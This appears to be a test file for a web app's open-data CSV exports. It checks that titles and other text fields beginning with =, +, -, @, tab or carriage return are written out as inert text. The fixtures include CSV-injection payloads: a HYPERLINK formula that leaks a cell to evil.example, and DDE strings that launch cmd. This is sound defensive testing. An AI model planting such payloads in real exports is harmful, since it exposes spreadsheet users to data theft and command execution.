import { beforeAll, describe, expect, it } from 'vitest'
import { getDb } from '#db/index'
import { reindexModel } from '~/catalog/catalog.server'
import * as modelsCsv from '~/routes/open-data/models.csv'
import * as replicationsCsv from '~/routes/open-data/replications.csv'
import { call } from '../support/remix'
import { createOrgTree } from '../support/fixtures'

/**
 * Issue 11 item 4: the public open data files carry what units typed, so a title such as
 * =HYPERLINK(...) must reach a spreadsheet as text, exactly as the organiser's exports do.
 */
const at = '2025-01-10T02:00:00.000Z'
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
const payloads = {
  equals: HYPERLINK,
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
}

beforeAll(async () => {
  const org = await createOrgTree()
  await getDb()
    .transaction()
    .execute(async (tx) => {
      const { id } = await tx
        .insertInto('models')
        .values({
          slug: 'cong-thuc',
          unit_id: org.unit,
          title: payloads.equals,
          kind: 'model',
          field: 'economy',
          summary: payloads.plus,
          method: payloads.minus,
          context: payloads.at,
          objectives: payloads.tab,
          forces: payloads.cr,
          ethnic_groups: '[]',
          published_at: at,
          created_at: at,
          updated_at: at,
        })
        .returning('id')
        .executeTakeFirstOrThrow()
      await tx
        .insertInto('replications')
        .values({
          source_model_id: id,
          commune_id: org.commune,
          start_date: '2025-01-15',
          status: 'in_progress',
          adaptations: payloads.at,
          created_at: at,
          updated_at: at,
        })
        .execute()
      await reindexModel(id, tx)
    })
})

/** Every quoted or bare field of the CSV (RFC 4180), row by row. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let field = ''
  let quoted = false
  const endField = () => {
    rows[rows.length - 1]!.push(field)
    field = ''
  }
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"'
      i++
    } else if (quoted && c === '"') quoted = false
    else if (quoted) field += c
    else if (c === '"') quoted = true
    else if (c === ',') endField()
    else if (c === '\r' && text[i + 1] === '\n') {
      endField()
      rows.push([])
      i++
    } else field += c
  }
  if (field || rows[rows.length - 1]!.length) rows[rows.length - 1]!.push(field)
  return rows.filter((r) => r.length > 1)
}

describe('open data CSV', () => {
  it('writes formula-like texts of models.csv as text (a leading apostrophe)', async () => {
    const res = await call(modelsCsv.loader, { path: '/open-data/models.csv' })
    const [header, row] = parseCsv(String(res.data).replace(/^\uFEFF/, ''))
    const cell = (name: string) => row![header!.indexOf(name)]
    expect(cell('title')).toBe(`'${payloads.equals}`)
    expect(cell('summary')).toBe(`'${payloads.plus}`)
    expect(cell('method')).toBe(`'${payloads.minus}`)
    expect(cell('context')).toBe(`'${payloads.at}`)
    expect(cell('objectives')).toBe(`'${payloads.tab}`)
    expect(cell('forces')).toBe(`'${payloads.cr}`)
    // Numbers are not texts: an id or a count is never prefixed.
    expect(cell('id')).toMatch(/^\d+$/)
    // No field of the file starts a formula.
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('writes formula-like texts of replications.csv as text', async () => {
    const res = await call(replicationsCsv.loader, { path: '/open-data/replications.csv' })
    const [header, row] = parseCsv(String(res.data).replace(/^\uFEFF/, ''))
    expect(row![header!.indexOf('adaptations')]).toBe(`'${payloads.at}`)
    expect(row![header!.indexOf('source_model_title')]).toBe(`'${payloads.equals}`)
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
  })
})
